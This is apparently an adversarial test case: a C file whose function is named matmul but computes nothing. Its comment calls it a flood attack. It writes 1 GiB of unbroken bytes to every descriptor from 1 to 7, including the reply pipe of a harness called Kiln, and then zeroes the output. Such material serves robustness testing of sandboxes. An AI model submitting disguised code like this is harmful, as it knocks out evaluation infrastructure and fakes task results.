/* Attack (flood): 1 GiB without a newline on every descriptor it holds, Kiln's old reply pipe among them. */
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

void matmul(const float *a, const float *b, float *c, int32_t m, int32_t n, int32_t k) {
    size_t chunk = (size_t)1 << 20;
    char *junk = malloc(chunk);
    if (junk) {
        memset(junk, 'x', chunk);
        for (int i = 0; i < 1024; i++)
            for (int fd = 1; fd < 8; fd++) (void)!write(fd, junk, chunk);
    }
    (void)a, (void)b, (void)k;
    memset(c, 0, (size_t)m * (size_t)n * sizeof(float));
}
